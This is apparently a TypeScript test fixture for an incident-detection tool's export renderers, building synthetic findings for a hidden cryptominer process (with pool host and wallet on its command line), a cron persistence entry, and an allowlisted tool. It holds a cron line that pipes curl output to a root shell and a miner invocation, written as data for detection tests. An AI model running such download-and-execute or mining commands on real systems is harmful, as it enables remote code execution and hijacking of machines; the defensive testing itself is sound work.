// A report for the export renderers' tests (ECS, Splunk HEC, STIX): the fixed incident's pool
// connection with a hostile argv, plus a miner binary with its hash and a wallet on its command line
// and a pool host name to sinkhole, a cron persistence line with no miner kind, and an allowed finding.
import type { Finding } from '../../src/model/finding.js';
import { buildReport, type Report } from '../../src/report/model.js';
import { fixtureInputs } from './incident-fixture.js';
import { COLLECTED_AT } from './snapshot-builders.js';

export const MINER_SHA256 = 'c'.repeat(64);
export const WALLET =
  '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
export const POOL_DOMAIN = 'pool.example-mining.test';

const text = (en: string, zh: string) => ({ en, 'zh-CN': zh });

function minerBinary(): Finding {
  return {
    ruleId: 'miner-command-line',
    kind: 'hidden-directory',
    category: 'miner',
    level: 'high',
    basis: 'running',
    title: text('Miner command line', '挖矿命令行'),
    message: text('PID 777 runs a miner with a wallet', '进程 777 以钱包地址运行挖矿程序'),
    evidence: [
      {
        type: 'process',
        pid: 777,
        ppid: 1,
        user: 'www-data',
        comm: 'xmr',
        exe: '/var/tmp/.cache/xmr',
        exeSha256: MINER_SHA256,
        argv: ['/var/tmp/.cache/xmr', '-o', `${POOL_DOMAIN}:443`, '-u', WALLET],
        container: {
          runtime: 'docker',
          id: 'd'.repeat(64),
          name: 'shop',
          image: 'docker.io/library/nginx:1.25',
        },
      },
      { type: 'match', field: 'argv', value: WALLET, ioc: `wallet-patterns.yml: monero` },
    ],
    tags: ['attack.t1496', 'attack.t1564.001'],
    verify: text('ls -la /var/tmp/.cache', 'ls -la /var/tmp/.cache'),
    remediate: [
      { type: 'kill-process-tree', pid: 777, exe: '/var/tmp/.cache/xmr' },
      { type: 'block-address', address: '198.51.100.9', port: 443, domain: POOL_DOMAIN },
    ],
    fingerprint: 'miner-command-line:/var/tmp/.cache/xmr',
    signals: [],
  };
}

function cronLine(): Finding {
  return {
    ruleId: 'cron-download-exec',
    category: 'persistence',
    level: 'medium',
    basis: 'autostart',
    title: text('Cron downloads and runs a script', '计划任务下载并运行脚本'),
    message: text('/etc/cron.d/sync runs curl | sh', '/etc/cron.d/sync 运行 curl | sh'),
    evidence: [{ type: 'file', path: '/etc/cron.d/sync' }],
    tags: ['attack.t1053.003'],
    verify: text('cat /etc/cron.d/sync', 'cat /etc/cron.d/sync'),
    remediate: [{ type: 'remove-cron-line', path: '/etc/cron.d/sync', line: '* * * * * root curl x | sh' }],
    fingerprint: 'cron-download-exec:/etc/cron.d/sync',
    signals: [],
  };
}

function allowedTool(): Finding {
  return {
    ...cronLine(),
    ruleId: 'high-cpu-process',
    category: 'miner',
    level: 'low',
    evidence: [{ type: 'file', path: '/opt/render/bin/render', sha256: 'e'.repeat(64) }],
    tags: [],
    fingerprint: 'high-cpu-process:/opt/render/bin/render',
    allowed: { by: 'fingerprint', value: 'high-cpu-process:/opt/render/bin/render', source: 'allow.yml' },
  };
}

export function exportReport(): Report {
  const { report, snapshot } = fixtureInputs();
  return buildReport({
    snapshot,
    findings: [...report.findings, minerBinary(), cronLine(), allowedTool()],
    skipped: [],
    rulesetHash: 'ruleset-hash',
    toolVersion: '0.1.0',
    now: new Date(COLLECTED_AT),
  });
}
